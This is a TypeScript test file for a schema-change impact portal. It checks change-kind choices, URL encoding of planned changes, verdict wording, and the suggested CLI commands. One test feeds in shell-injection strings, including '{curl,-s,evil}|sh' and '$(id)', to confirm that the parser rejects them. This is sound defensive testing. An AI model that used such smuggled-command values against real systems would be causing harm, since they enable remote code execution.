import { expect, test } from 'vitest';
import { changeChoices, isOfRegistered, wordsOfChange } from '../../../../portal/source/impact/change-choices.ts';
import { nextSteps } from '../../../../portal/source/impact/next-steps.ts';
import { fieldOf, hrefOfChanges, readChanges } from '../../../../portal/source/impact/planned-change.ts';
import { verdictWords } from '../../../../portal/source/impact/verdict-words.ts';
import { commandLine } from '../../../../portal/source/parts/command-line.ts';
import { changeKinds } from '../../../../schema/contract-changes/change-kinds.ts';

const removal = { kind: 'FIELD_REMOVED', coordinate: 'Order.total' };
const now = new Date('2026-11-23T00:00:00Z');

test('every kind of change that may break somebody is offered, and no other', () => {
  const breaking = Object.entries(changeKinds).filter(([, { severity }]) => severity === 'BREAKING');
  expect(changeChoices.map(({ kind }) => kind).sort()).toEqual(breaking.map(([kind]) => kind).sort());
});

test('changes stand in the address, each once, and what is not understood is left out', () => {
  const changes = [removal, { kind: 'ARGUMENT_REMOVED', coordinate: 'Query.orders(first:)' }];
  const href = hrefOfChanges(changes, 'P7D');
  const { searchParams } = new URL(href, 'http://portal.example');

  expect(readChanges(searchParams)).toEqual(changes);
  expect(
    readChanges(new URLSearchParams('change=FIELD_REMOVED:A.b&change=FIELD_REMOVED:A.b&change=nonsense&change=X:')),
  ).toEqual([{ kind: 'FIELD_REMOVED', coordinate: 'A.b' }]);
  expect(hrefOfChanges([], '')).toBe('/impact');
});

test('a kind that is not offered goes by its name', () => {
  expect(wordsOfChange('FIELD_ADDED')).toBe('Field added');
});

test.each([
  ['NOT_BREAKING', 0, 'Breaks nobody'],
  ['UNUSED_IN_WINDOW', 0, 'Used by nobody'],
  ['BREAKS_PINNED_ONLY', 1, 'Breaks pins'],
  ['UNKNOWN_NO_TRAFFIC_DATA', 0, 'Nobody can say'],
  ['BREAKS_CONSUMERS', 1, 'Breaks one client'],
  ['BREAKS_CONSUMERS', 100, 'Breaks 100 or more clients'],
] as const)('the verdict %s with %i clients is "%s"', (verdict, clients, short) => {
  expect(verdictWords({ verdict, clients }, '30 days').short).toBe(short);
});

test.each([
  'Customer.$(id)',
  "Customer.x';id;'",
  'x;id',
  '{curl,-s,evil}|sh',
  'a`id`',
  '-x',
  '\n',
  'A.b\nid',
])('the address holds no command: %j', (coordinate) => {
  expect(readChanges(new URLSearchParams({ change: `FIELD_REMOVED:${coordinate}` }))).toEqual([]);
});

test('what is registered can be looked up, and what is to come cannot', () => {
  expect(fieldOf('Query.orders(first:)')).toBe('Query.orders');
  expect(fieldOf('Order.total')).toBe('Order.total');
  const kinds = ['FIELD_REMOVED', 'ARGUMENT_REMOVED', 'PRODUCT_RETIRED', 'REQUIRED_INPUT_FIELD_ADDED', 'TYPE_REMOVED'];
  expect(kinds.filter(isOfRegistered)).toEqual(['FIELD_REMOVED', 'ARGUMENT_REMOVED', 'PRODUCT_RETIRED']);
});

const commandsFor = (...given: Parameters<typeof nextSteps>) =>
  nextSteps(...given).map(({ command }) => commandLine(command));

test('a field that somebody asks for is announced first, in the contract of its subgraph', () => {
  expect(commandsFor(removal, 'BREAKS_CONSUMERS', 'orders', now)).toEqual([
    'gordian contract deprecate subgraphs/orders/contract.yaml Order.total --sunset 2027-02-21',
    'gordian impact --change Order.total=FIELD_REMOVED',
    'gordian contract register subgraphs/orders',
  ]);
});

test('what breaks nobody needs no announcement', () => {
  expect(commandsFor(removal, 'UNUSED_IN_WINDOW', null, now)).toEqual([
    'gordian contract check subgraphs/SUBGRAPH',
    'gordian contract register subgraphs/SUBGRAPH',
  ]);
});

test('where nobody can say, one waits or says why not', () => {
  const change = { kind: 'ARGUMENT_REMOVED', coordinate: 'Query.orders(first:)' };
  expect(commandsFor(change, 'UNKNOWN_NO_TRAFFIC_DATA', 'orders', now)).toEqual([
    "gordian impact --change 'Query.orders(first:)=ARGUMENT_REMOVED'",
    'gordian contract register subgraphs/orders --accept-unknown --reason WHY',
  ]);
});
